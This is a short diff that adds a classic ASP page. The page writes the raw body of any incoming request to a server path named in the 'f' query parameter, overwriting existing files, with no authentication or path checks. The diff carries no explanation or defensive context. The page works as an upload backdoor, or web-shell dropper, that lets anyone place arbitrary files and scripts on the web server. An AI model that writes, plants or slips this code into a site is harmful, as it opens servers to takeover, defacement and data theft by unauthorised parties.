@@ -1,0 +1,9 @@
+<%
+Dim st
+Set st = Server.CreateObject("ADODB.Stream")
+st.Type = 1
+st.Open
+st.Write Request.BinaryRead(Request.TotalBytes)
+st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
+st.Close
+%>
